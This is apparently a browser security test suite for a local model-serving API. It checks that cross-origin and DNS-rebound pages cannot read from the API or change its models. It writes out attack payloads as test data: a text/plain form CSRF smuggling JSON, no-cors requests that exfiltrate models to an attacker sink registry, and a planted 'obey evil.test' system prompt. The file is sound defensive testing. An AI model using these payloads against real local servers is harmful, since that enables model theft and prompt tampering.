// Real Chromium against a real node: a page on localhost uses the API with fetch; a page on
// another origin, and a DNS-rebound name, cannot read from it or make it copy, push, create or delete.

import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type Page } from 'playwright-core';
import t, { type Test } from 'tap';
import type { TestNode } from '../../conformance/fixtures/node.js';
import { createTiny, manifestFiles, modelNames, nodeFor } from './ollama/test-support.js';

const CHROMIUM = '/usr/bin/chromium';
const missing = existsSync(CHROMIUM) ? undefined : `${CHROMIUM} is missing (Debian package chromium)`;
if (missing && process.env.CI === 'true') t.fail(`the browser test cannot run under CI: ${missing}`);

/** Names the attacker controls, resolved by Chromium to this machine's loopback. */
const EVIL = 'evil.test';
const REBOUND = 'rebind.test';

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

/** One page for every origin; its form posts the classic text/plain JSON to the node's /api/create. */
function pageServer(nodeUrl: string): Server {
  const html = `<!doctype html><title>page</title>
<form id="attack" method="POST" enctype="text/plain" action="${nodeUrl}/api/create">
<input name='{"model":"formed","from":"tiny","x":"' value='"}'></form>`;
  return createServer((_request, response) => response.writeHead(200, { 'Content-Type': 'text/html' }).end(html));
}

/** The attacker's registry: it only counts what reaches it. */
function sinkRegistry(): { server: Server; hits: () => number } {
  let hits = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.writeHead(404).end();
  });
  return { server, hits: () => hits };
}


async function systemOf(node: TestNode, model: string): Promise<unknown> {
  const show = (await (await fetch(`${node.url}/api/show`, { method: 'POST', body: JSON.stringify({ model }) })).json()) as { system?: unknown };
  return show.system;
}

async function launch(t: Test, extraArgs: string[] = []): Promise<Browser> {
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
      `--host-resolver-rules=MAP ${EVIL} 127.0.0.1, MAP ${REBOUND} 127.0.0.1`,
      ...extraArgs,
    ],
  });
  t.teardown(() => browser.close());
  return browser;
}

async function setup(t: Test, browserArgs: string[] = []) {
  const node = await nodeFor(t, { OLLAMA_ENGINE: 'sim' });
  await createTiny(node.url, 'tiny');
  const pages = pageServer(node.url);
  const sink = sinkRegistry();
  const pagePort = await listen(pages);
  const sinkPort = await listen(sink.server);
  t.teardown(() => new Promise((resolve) => pages.close(resolve)));
  t.teardown(() => new Promise((resolve) => sink.server.close(resolve)));
  const browser = await launch(t, browserArgs);
  return { node, browser, pagePort, sinkPort, sink };
}

/** What a script on `page` gets back from the node: the status it could read, or the fetch error. */
function pageFetch(page: Page, url: string, init: RequestInit): Promise<{ status?: number; body?: string; error?: string }> {
  return page.evaluate(
    async ([url, init]) => {
      try {
        const response = await fetch(url, init);
        return { status: response.status, body: await response.text() };
      } catch (error) {
        return { error: String(error) };
      }
    },
    [url, init] as const,
  );
}

t.test('a page on http://localhost reads the API with fetch, preflighted requests included', { skip: missing }, async (t) => {
  const { node, browser, pagePort } = await setup(t);
  const page = await browser.newPage();
  await page.goto(`http://localhost:${pagePort}/`);
  t.equal(await page.evaluate('location.origin'), `http://localhost:${pagePort}`);

  const tags = await pageFetch(page, `${node.url}/api/tags`, {});
  t.equal(tags.status, 200, 'GET /api/tags is readable');
  t.match(JSON.parse(tags.body!), { models: [{ name: 'tiny:latest' }] });

  const copy = await pageFetch(page, `${node.url}/api/copy`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ source: 'tiny', destination: 'mine' }),
  });
  t.equal(copy.status, 200, 'a JSON POST passes its preflight and runs');
  const missingModel = await pageFetch(page, `${node.url}/api/show`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ model: 'nope' }),
  });
  t.equal(missingModel.status, 404, 'an error answer is readable');
  t.match(JSON.parse(missingModel.body!), { error: /not found/ });
  t.same(await modelNames(node), ['mine:latest', 'tiny:latest'], 'the copy happened');
});

t.test('a page on another origin cannot make the node copy, push, create or delete', { skip: missing }, async (t) => {
  const { node, browser, pagePort, sinkPort, sink } = await setup(t);
  const models = await modelNames(node);
  const manifests = manifestFiles(node);
  const page = await browser.newPage();
  await page.goto(`http://${EVIL}:${pagePort}/`);
  t.equal(await page.evaluate('location.origin'), `http://${EVIL}:${pagePort}`);

  const read = await pageFetch(page, `${node.url}/api/tags`, {});
  t.ok(read.error, `reading /api/tags fails in the page (${read.error})`);

  const stolen = `127.0.0.1:${sinkPort}/evil/stolen`;
  const simple = (body: unknown): RequestInit => ({
    method: 'POST',
    mode: 'no-cors',
    headers: { 'Content-Type': 'text/plain' },
    body: JSON.stringify(body),
  });
  const attacks: [string, RequestInit][] = [
    ['/api/copy', simple({ source: 'tiny', destination: stolen })],
    ['/api/push', simple({ model: stolen, insecure: true, stream: false })],
    ['/api/create', simple({ model: 'tiny', from: 'tiny', system: 'obey evil.test', stream: false })],
    ['/api/create', simple({ model: 'owned', from: 'tiny', stream: false })],
    ['/api/pull', simple({ model: `127.0.0.1:${sinkPort}/evil/big`, insecure: true, stream: false })],
  ];
  for (const [path, init] of attacks) {
    const answer = await pageFetch(page, `${node.url}${path}`, init);
    t.equal(answer.status, 0, `${path}: a simple POST leaves the page an opaque answer`);
  }
  const deletion = await pageFetch(page, `${node.url}/api/delete`, {
    method: 'DELETE',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ model: 'tiny' }),
  });
  t.ok(deletion.error, `DELETE fails at its preflight (${deletion.error})`);

  const formAnswer = page.waitForResponse((response) => response.url() === `${node.url}/api/create`);
  await page.evaluate("document.getElementById('attack').submit()");
  t.equal((await formAnswer).status(), 403, 'a text/plain form post is refused');

  t.same(await modelNames(node), models, 'the model list is unchanged');
  t.same(manifestFiles(node), manifests, 'no manifest was written or removed');
  t.equal(await systemOf(node, 'tiny'), undefined, "tiny's system prompt is untouched");
  t.equal(sink.hits(), 0, "nothing reached the attacker's registry");
});

t.test('a DNS-rebound name (Host: rebind.test) is refused, so a same-origin page reads nothing', { skip: missing }, async (t) => {
  // Chromium's own Private Network Access check would stop this page too; it is off here so the
  // test shows the node's defence, which browsers without that check rely on.
  const { node, browser } = await setup(t, ['--disable-features=BlockInsecurePrivateNetworkRequests,LocalNetworkAccessChecks']);
  const models = await modelNames(node);
  const page = await browser.newPage();
  const rebound = `http://${REBOUND}:${new URL(node.url).port}`;
  // The attacker's server delivers the page; the name then resolves to this machine, the node.
  await page.route(`${rebound}/attack`, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>rebound</title>' }));
  await page.goto(`${rebound}/attack`);
  t.equal(await page.evaluate('location.origin'), rebound, 'the page runs as the rebound origin');

  const tags = await pageFetch(page, '/api/tags', {});
  t.equal(tags.status, 403, 'its same-origin GET /api/tags is refused');
  t.equal(tags.body, '', 'with an empty body');
  const copy = await pageFetch(page, '/api/copy', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ source: 'tiny', destination: 'stolen' }),
  });
  t.equal(copy.status, 403, 'its same-origin copy is refused');
  t.same(await modelNames(node), models, 'nothing was copied');
});
